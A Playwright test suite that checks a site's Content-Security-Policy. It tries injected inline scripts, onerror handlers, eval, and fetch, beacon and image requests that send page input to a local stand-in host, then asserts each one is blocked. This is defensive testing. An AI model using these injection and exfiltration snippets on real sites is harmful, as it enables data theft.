"""The page never runs what it is given: every page carries a Content-Security-Policy
(a <meta> tag written by scripts/build-site from the page's own inline scripts),
nothing the site does trips it, and what it was not built with is blocked."""
from __future__ import annotations

import contextlib
import json
import re
import shutil
import tempfile
from pathlib import Path

from helpers import CHROMIUM, CHROMIUM_ARGS, append_to_worker, paste, wait_ready
from site_build import FIXTURES

SEEDS = sorted(FIXTURES.glob("[0-9][0-9][0-9]_*.txt"))

# Every securitypolicyviolation in every document of the context (frames included),
# kept in the page: the directive, what was blocked, and where.
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push([e.effectiveDirective, e.blockedURI, e.sourceFile, e.lineNumber, (e.sample || "").slice(0, 80)]);
}, true);
"""


def violations(page_or_frame) -> list:
    return page_or_frame.evaluate("() => window.__csp || []")


def test_a_whole_session_trips_no_policy(session, server):
    """The checker page (every seed, the export, the print view, the theme and its
    search), a rule page with the theme's search, and the embedded checker."""
    session.context.add_init_script(RECORD_VIOLATIONS)
    page = session.new_page(server)
    wait_ready(page, session)
    # the policy is the page's, as built
    policy = page.eval_on_selector('meta[http-equiv="Content-Security-Policy"]', "e => e.content")
    assert "connect-src 'self'" in policy and "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
    for seed in SEEDS:
        paste(page, seed.read_text(encoding="utf-8"))
    with page.expect_download() as dl:
        page.click(".gj-json")
    assert json.loads(Path(dl.value.path()).read_text(encoding="utf-8"))["verdict"]
    page.emulate_media(media="print")
    page.pdf()
    page.emulate_media(media="screen")
    # the theme's scripts (held back on this page, then started from a template)
    page.wait_for_function("() => document.documentElement.dataset.goujiTheme === 'started'", timeout=30_000)
    page.wait_for_function("() => document.querySelector('[data-gouji-app]').dataset.opencc", timeout=60_000)
    assert violations(page) == []

    page.goto(server + "rules/A101/")
    page.wait_for_load_state("networkidle")  # the theme's search index is in
    search = page.locator("input.md-search__input")
    search.click()
    page.keyboard.type("A101")  # typed keys (the theme searches on key events)
    page.wait_for_selector(".md-search-result__item", timeout=30_000)
    with page.expect_navigation():
        page.keyboard.press("Enter")  # the theme opens the first result; no form is submitted
    assert violations(page) == []

    page.goto(server + "app/embed-demo.html")
    frame = page.wait_for_selector("iframe.gouji-embed").content_frame()
    frame.wait_for_function("() => document.querySelector('#results') && "
                            "!['loading'].includes(document.querySelector('#results').dataset.state)",
                            timeout=90_000)
    seq = frame.eval_on_selector("#results", "e => Number(e.dataset.seq || 0)")
    frame.click("button.gj-sample >> nth=1")
    frame.wait_for_function(f"() => Number(document.querySelector('#results').dataset.seq || 0) > {seq}")
    assert violations(page) == [] and violations(frame) == []


class Witness:
    """Another host (localhost, another port): it records every request that reaches it."""

    def __init__(self):
        import http.server
        import threading

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(("GET", self.path))
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.origin = f"http://localhost:{self.server.server_address[1]}"

    def close(self):
        self.server.shutdown()


@contextlib.contextmanager
def unrouted_browser(playwright_instance):
    """A browser of its own, with no request interception (Session's would stop
    another host's requests before the policy does), and the other host."""
    witness = Witness()
    profile = tempfile.mkdtemp(prefix="gouji-chromium-")
    context = playwright_instance.chromium.launch_persistent_context(
        profile, executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
    try:
        yield context, witness
    finally:
        context.close()
        shutil.rmtree(profile, ignore_errors=True)
        witness.close()


def test_what_the_site_was_not_built_with_is_blocked(playwright_instance, server):
    """Injected markup, eval, and another origin's script or endpoint: blocked by
    the policy, and nothing reaches the other host.  (No request interception
    here: it is the policy that stops them.)"""
    with unrouted_browser(playwright_instance) as (context, witness):
        context.add_init_script(RECORD_VIOLATIONS)
        page = context.pages[0]
        page.goto(server)
        wait_ready(page)
        # run as the page's own code (a task of its own), not as the test's
        # evaluation, which the browser lets past the policy
        got = page.evaluate("""(other) => new Promise((done) => setTimeout(async () => {
          const out = {};
          // an inline script, as injected markup would bring it
          const s = document.createElement("script");
          s.textContent = "window.__ran = 'script'";
          document.head.append(s);
          // an inline handler
          const d = document.createElement("div");
          d.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.__ran = 1"'
                      + ' onerror="window.__ran = 2">';
          document.body.append(d);
          // eval and its kin
          try { eval("window.__ran = 'eval'"); } catch (e) { out.eval = e.name; }
          try { new Function("window.__ran = 'function'")(); } catch (e) { out.func = e.name; }
          // another origin's script, image, and an endpoint
          const x = document.createElement("script");
          x.src = other + "/x.js";
          document.head.append(x);
          const i = new Image();
          i.src = other + "/pixel.gif?t=" + encodeURIComponent(document.querySelector("#report-input").value);
          try { await fetch(other + "/collect", { method: "POST", body: "text" }); out.fetch = "sent"; }
          catch (e) { out.fetch = e.name; }
          try { navigator.sendBeacon(other + "/beacon", "text"); } catch (e) { /* blocked either way */ }
          await new Promise((ok) => setTimeout(ok, 500));
          out.ran = window.__ran || null;
          done(out);
        }, 0))""", witness.origin)
        assert got == {"eval": "EvalError", "func": "EvalError", "fetch": "TypeError", "ran": None}, got
        directives = {v[0] for v in violations(page)}
        assert {"script-src-elem", "script-src-attr", "script-src", "connect-src", "img-src"} <= directives, \
            violations(page)
        assert witness.hits == []


# Appended to the worker's module (its scope: pyodide): on a message, the worker
# and the Python in it try to reach another host, and to run code from a string.
ESCAPE = """
addEventListener("message", async (ev) => {
  if (!ev.data || ev.data.type !== "test:escape") return;
  const other = ev.data.other, out = {};
  try { await fetch(other + "/collect", { method: "POST", body: "text" }); out.fetch = "sent"; }
  catch (e) { out.fetch = e.name; }
  try { await import(other + "/x.js"); out.import = "ran"; } catch (e) { out.import = e.name; }
  try { eval("1"); out.eval = "ran"; } catch (e) { out.eval = e.name; }
  try { new Function("return 1")(); out.func = "ran"; } catch (e) { out.func = e.name; }
  try {
    await pyodide.runPythonAsync("from js import fetch\\nawait fetch(" + JSON.stringify(other + "/python") + ")");
    out.python = "sent";
  } catch (e) { out.python = /Failed to fetch/.test(String(e)) ? "no fetch" : String(e).slice(-300); }
  postMessage({ type: "test:escaped", out });
});
"""


def test_the_checker_worker_runs_under_the_pages_policy(playwright_instance, server):
    """Python and the runtime run in the worker, under the page's policy too
    (GitHub Pages sends no header that would give the worker one of its own):
    neither the worker nor Python in it reaches another host or runs a string."""
    with unrouted_browser(playwright_instance) as (context, witness):
        page = context.pages[0]

        append_to_worker(page, ESCAPE)  # only the worker's own file; the rest as served
        page.goto(server)
        wait_ready(page)
        paste(page, SEEDS[3].read_text(encoding="utf-8"))
        got = page.evaluate("""(other) => new Promise((done) => {
          const worker = document.querySelector("[data-gouji-app]").gouji.worker;
          worker.addEventListener("message", (ev) => { if (ev.data.type === "test:escaped") done(ev.data.out); });
          worker.postMessage({ type: "test:escape", other });
        })""", witness.origin)
        assert got == {"fetch": "TypeError", "import": "TypeError", "eval": "EvalError", "func": "EvalError",
                       "python": "no fetch"}, got
        assert witness.hits == []


# Before the page's scripts: every script blob the page makes and every blob:
# URL it lets go.  (A fetch of the URL cannot tell: the policy blocks it either way.)
RECORD_SCRIPT_BLOBS = """
window.__scriptBlobs = [];
window.__revoked = [];
const createObjectURL = URL.createObjectURL, revokeObjectURL = URL.revokeObjectURL;
URL.createObjectURL = function (obj) {
  const url = createObjectURL.call(URL, obj);
  if (obj && obj.type === "text/javascript") window.__scriptBlobs.push(url);
  return url;
};
URL.revokeObjectURL = function (url) {
  window.__revoked.push(url);
  return revokeObjectURL.call(URL, url);
};
"""

STILL_HELD = "() => window.__scriptBlobs.map((u) => !window.__revoked.includes(u))"


def test_the_blob_each_worker_starts_from_is_let_go_once_the_worker_runs(session, server):
    """The blob: that starts the worker under the page's policy is not kept for
    the page's life: the first worker's, and a worker's started again."""
    session.context.add_init_script(RECORD_SCRIPT_BLOBS)
    page = session.new_page(server)
    wait_ready(page, session)
    assert page.evaluate("window.__scriptBlobs.length") == 1
    assert page.evaluate(STILL_HELD) == [False]
    page.evaluate("document.querySelector('[data-gouji-app]').gouji.restart('stop')")
    wait_ready(page, session)
    paste(page, SEEDS[3].read_text(encoding="utf-8"))  # the new worker checks
    assert page.evaluate("window.__scriptBlobs.length") == 2
    assert page.evaluate(STILL_HELD) == [False, False]


def test_the_policy_lists_exactly_each_pages_inline_scripts(site_root):
    """Hash by hash: a page's policy allows its own inline scripts and styles and no other."""
    import base64
    import hashlib

    def digest(text: str) -> str:
        return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"

    pages = sorted(site_root.rglob("*.html"))
    assert len(pages) > 40
    for page in pages:
        html = page.read_text(encoding="utf-8")
        head = html[:html.index("<meta http-equiv=\"Content-Security-Policy\"")]
        assert "<script" not in head and re.search(r'<meta charset="utf-8">\s*$', head), page
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html).group(1)
        rules = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert rules["default-src"] == "'self'" and rules["connect-src"] == "'self'", page
        assert rules["object-src"] == "'none'" and rules["form-action"] == "'none'", page
        scripts = [body for attrs, body in re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.S)
                   if not re.search(r"\ssrc=", attrs) and "application/json" not in attrs]
        assert set(rules["script-src"].split()) == {"'self'", "'wasm-unsafe-eval'"} | {digest(s) for s in scripts}, page
        styles = re.findall(r"<style\b[^>]*>(.*?)</style>", html, re.S)
        assert set(rules["style-src"].split()) == {"'self'"} | {digest(s) for s in styles}, page
